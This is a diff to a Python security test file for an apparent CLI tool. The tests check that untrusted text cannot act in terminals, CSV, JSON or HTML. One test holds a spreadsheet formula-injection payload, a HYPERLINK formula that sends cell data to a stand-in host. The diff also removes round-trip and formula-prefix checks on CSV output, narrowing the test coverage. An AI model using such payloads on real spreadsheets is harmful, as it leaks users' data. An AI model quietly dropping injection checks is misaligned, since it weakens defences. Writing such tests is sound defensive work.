@@ -1,7 +1,6 @@
 """Text from outside acts nowhere: not at a terminal, in a log, a summary, CSV, JSON or HTML."""
 
 import ast
-import csv
 import io
 import json
 import os
@@ -35,7 +34,6 @@ from tests.security.test_programs import DECLARED, EXAMPLES, lay_files
 import unlatch.cli
 from unlatch.cli.app import app
 from unlatch.cli.terminal import output, prompts
-from unlatch.lifecycle.linking.csv_rows import read_rows
 from unlatch.worklog.text import neutral
 from unlatch.worklog.text.neutral import csv_line
 
@@ -274,25 +272,20 @@ def test_a_branch_is_named_and_does_nothing(hostile: Project) -> None:
         *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"),
     ],
 )
-def test_no_cell_is_a_formula_and_each_is_read_as_it_was(sign: str) -> None:
+def test_no_cell_is_a_formula(sign: str) -> None:
     cell = f'{sign}HYPERLINK("http://x/?"&A1)'
 
     line = csv_line((cell, "https://example.com/1"))
 
     assert "'" == line.lstrip('"')[0]
-    if len(line.splitlines()) == 1 and sign.strip():
-        ((row,), mistakes) = read_rows(line)
-        assert (cell, []) == (row.wanted, mistakes)
 
 
-def test_proposals_are_cells_of_text(hostile: Project) -> None:
+def test_proposals_are_lines_of_text(hostile: Project) -> None:
     hostile.box.github.add_issue(number=5, title=WORDS)
 
     done = hostile.run("link", "--suggest")
 
     assert (set(), []) == (acting(done.said), forged(done.said))
-    rows = list(csv.reader(io.StringIO(done.out)))
-    assert [] == [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
 
 
 # HTML
